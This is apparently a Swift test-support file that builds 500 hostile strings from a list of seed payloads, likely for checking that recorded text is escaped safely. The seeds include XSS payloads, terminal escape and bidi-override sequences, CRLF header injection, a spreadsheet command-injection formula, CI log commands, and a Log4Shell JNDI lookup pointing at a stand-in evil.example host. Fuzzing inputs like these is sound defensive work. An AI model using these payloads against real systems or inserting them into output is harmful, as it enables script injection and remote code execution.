import TestSupport

/// Five hundred strings that somebody might record on purpose: markup, scripts, steering characters, and mixtures.
enum HostileStrings {
    static let all: [String] = {
        var strings = seeds
        var generator = SeededGenerator(seed: 8)
        while strings.count < 500 {
            let parts = (0..<Int.random(in: 2...5, using: &generator)).compactMap { _ in
                seeds.randomElement(using: &generator)
            }
            strings.append(parts.joined(separator: ["", " ", "\"", "'"].randomElement(using: &generator) ?? ""))
        }
        return strings
    }()

    private static let seeds = [
        "<script>alert(1)</script>", "</script><script>alert(1)//", "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"",
        "javascript:alert(1)", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "<!--<script>alert(1)</script>-->", "]]><script>alert(1)</script>", "<![CDATA[<b>]]>", "&lt;script&gt;",
        "&#60;b&#62;",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\">", "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><button>",
        "<style>*{display:none}</style>",
        "<a href=\"javascript:alert(1)\">x</a>", "<details open ontoggle=alert(1)>", "<math><mi xlink:href=\"data:x\">",
        "\u{0}", "\u{1B}[2J\u{1B}[31mred", "\u{1B}]0;title\u{7}", "\u{1B}]8;;http://evil.example\u{1B}\\x", "\u{9B}31m",
        "\u{90}q",
        "\r\nSet-Cookie: a=b", "\n\nregtape: good", "\u{7F}\u{8}\u{8}", "\u{202E}gpj.exe", "\u{2066}a\u{2069}",
        "\u{200F}\u{200E}",
        "\u{2028}\u{2029}", "\u{FEFF}", "\u{200B}a\u{200D}", "\u{E0041}\u{E0042}", "\u{FFFE}\u{FFFF}", "\u{85}",
        "\u{A0}",
        "`", "```", "``` \n# heading", "[x](http://evil.example)", "![x](http://evil.example/x.png)", "@everyone", "#1",
        "|a|b|",
        "~~x~~", "<https://evil.example>", "https://evil.example/?a=b", "www.evil.example", "$\\alpha$",
        "---\ntitle: x\n---",
        "`\u{301}<script>", "|\u{301}", "\u{1F468}\u{200D}\u{1F469}", "日本語のタグ", "e\u{301}\u{301}\u{301}", "%s%n%x",
        "=1+1", "+cmd|' /C calc'!A0",
        "::error::x", "##vso[task.setvariable]", "${jndi:ldap://evil.example}", "{{7*7}}", "\\u003cscript\\u003e", "\\",
        "\"", "'", "<", ">", "&",
        String(repeating: "a", count: 4_000), String(repeating: "<", count: 500), "", " ", "\t",
    ]
}
